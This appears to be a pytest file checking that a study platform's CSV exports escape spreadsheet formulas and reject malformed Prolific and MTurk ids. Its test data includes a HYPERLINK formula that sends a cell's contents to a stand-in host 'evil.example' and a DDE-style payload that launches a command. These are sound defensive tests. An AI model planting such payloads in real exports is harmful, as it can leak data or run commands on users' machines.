"""Formula injection (issue 25, item 3): text that a participant, a crowd link or a researcher
puts into a study reaches every CSV export as plain text, never as a spreadsheet formula (a cell
starting with =, +, -, @, a tab or a carriage return gets a leading apostrophe; numbers stay
numbers), and a study link whose platform ids are not shaped like a platform's is refused at
the door with a plain error."""

from __future__ import annotations

import csv
import io

import pytest

from generation.models import ModelSpec, Prompt
from ratings import payments, raters
from ratings.models import Participation
from ratings.results.exports import leaderboard_export, votes_csv
from tests.ratings.rater_client import RaterSession, RecordingClient, study_link

pytestmark = pytest.mark.django_db

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


def formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run: text starting with a formula character that is not a number."""
    found = []
    for row in csv.reader(io.StringIO(text)):
        if not row or row[0].startswith("#"):
            continue
        for cell in row:
            if cell.startswith(FORMULA_START):
                try:
                    float(cell)
                except ValueError:
                    found.append(cell)
    return found


def cells(text: str) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text)) for cell in row}


@pytest.fixture
def poisoned_study(make_study, monkeypatch):
    """A rated study whose model name, prompt category and challenge, participant feedback and
    staff's decision reason are all formulas."""
    monkeypatch.setattr(raters, "join_window", lambda: 1)
    study = make_study(n_models=2, n_prompts=3, attention_check_rate=0, repeat_share=0, quota_per_rater=3, ask_feedback=True)
    spec = study.job.specs.order_by("pk").first()
    ModelSpec.objects.filter(pk=spec.pk).update(slug="-2+3")
    Prompt.objects.filter(prompt_set=study.job.prompt_set).update(category=HYPERLINK, challenge=SUM)
    session = RaterSession(RecordingClient(), study)
    session.join_prolific("5f0c1e2d3b4a59687766cc03", "5f0c1e2d3b4a59687766cc04", "5f0c1e2d3b4a59687766cc05")
    session.start()
    while session.state["pairs"]:
        assert session.vote().status_code == 200
    session.finish()
    session.post_form(f"/rate/{study.pk}/feedback/", {"feedback": HYPERLINK})
    participation = Participation.objects.get(study=study)
    assert participation.feedback == HYPERLINK
    payments.payment_decision_override(participation=participation, decision="reject", reason=SUM, by=None)
    return study


def test_every_csv_export_neutralises_formula_cells(poisoned_study, admin_client):
    study = poisoned_study
    exports = {
        "participants (service)": payments.participants_csv(study=study).decode(),
        "participants (download)": admin_client.get(f"/studies/{study.pk}/participants.csv").content.decode(),
        "votes": votes_csv(study=study).decode(),
        "votes (download)": admin_client.get(f"/studies/{study.pk}/votes.csv").content.decode(),
    }
    for method in ("bt", "elo", "winrate"):
        content, content_type, _ = leaderboard_export(study=study, method=method, fmt="csv", rounds=20, by="category")
        assert content_type == "text/csv"
        exports[f"leaderboard {method}"] = content.decode()
    for name, text in exports.items():
        assert formula_cells(text) == [], name
    # The text is there, as text.
    assert {"'" + HYPERLINK, "'" + SUM} <= cells(exports["participants (service)"])
    assert {"'-2+3", "'" + HYPERLINK, "'" + SUM} <= cells(exports["votes"])
    assert {"'-2+3", "'" + HYPERLINK} <= cells(exports["leaderboard bt"])


@pytest.mark.parametrize(("platform", "params", "named"), [
    ("prolific", {"PROLIFIC_PID": "5f0c1e2d3b4a59687766dd01", "STUDY_ID": HYPERLINK, "SESSION_ID": "S1"}, "STUDY_ID"),
    ("prolific", {"PROLIFIC_PID": "5f0c1e2d3b4a59687766dd01", "STUDY_ID": "S", "SESSION_ID": "@SUM(1)"}, "SESSION_ID"),
    ("prolific", {"PROLIFIC_PID": "-2+3", "STUDY_ID": "S", "SESSION_ID": "S1"}, "PROLIFIC_PID"),
    ("mturk", {"workerId": "=1+1", "assignmentId": "A1", "hitId": "H1"}, "workerId"),
    ("mturk", {"workerId": "A1B2C3D4E5", "assignmentId": "+cmd", "hitId": "H1"}, "assignmentId"),
    ("mturk", {"workerId": "A1B2C3D4E5", "assignmentId": "A1", "hitId": "%09tab"}, "hitId"),
])
def test_platform_ids_not_shaped_like_a_platforms_are_refused_at_join(make_study, platform, params, named):
    study = make_study(n_models=2, n_prompts=2)
    from urllib.parse import quote

    query = {key: value if value.startswith("%") else quote(value, safe="") for key, value in params.items()}
    response = RecordingClient().get(study_link(study, platform, **query))
    text = response.content.decode()
    assert response.status_code == 400 and "participant ids are not valid" in text
    assert f"{named} must be 1 to 100 letters, digits" in text
    assert not Participation.objects.filter(study=study).exists()
